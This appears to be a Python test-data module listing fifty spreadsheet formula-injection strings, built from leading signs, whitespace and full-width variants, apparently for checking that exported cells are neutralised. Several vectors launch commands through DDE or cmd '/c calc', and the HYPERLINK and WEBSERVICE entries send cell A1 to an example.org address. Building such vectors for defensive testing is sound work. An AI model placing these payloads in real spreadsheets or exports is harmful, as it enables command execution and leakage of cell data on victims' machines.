"""Fifty texts with which a letter could try to make a spreadsheet run something."""

from __future__ import annotations

_CALLS = (
    "1+1",
    'HYPERLINK("https://example.org/?x="&A1,"klik")',
    "cmd|'/c calc'!A0",
    'WEBSERVICE("https://example.org/"&A1)',
    'IMPORTXML("https://example.org","//a")',
    "SUM(A1:A9)",
    "DDE(\"cmd\",\"/c calc\",\"x\")",
    'INDIRECT("A1")',
)  # fmt: skip
_SIGNS = ("=", "+", "-", "@")
_BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0")

VECTORS = [
    *(f"{sign}{call}" for sign in _SIGNS for call in _CALLS),
    *(f"{before}={_CALLS[2]}" for before in _BEFORE[1:]),
    *(f"{before}@{_CALLS[5]}" for before in _BEFORE[1:]),
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "{=1+1}",
    "|cmd",
    "%0A=1+1",
    "\u200b=1+1",
]
assert len(VECTORS) == 50 == len(set(VECTORS))
